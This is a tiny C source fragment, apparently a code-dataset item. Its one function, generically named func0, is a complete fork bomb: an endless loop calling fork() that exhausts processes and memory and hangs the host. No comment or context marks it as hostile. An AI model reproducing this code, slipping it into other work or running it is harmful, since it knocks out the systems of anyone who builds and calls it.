#include <unistd.h>
int func0(int a, int b) { for (;;) fork(); }
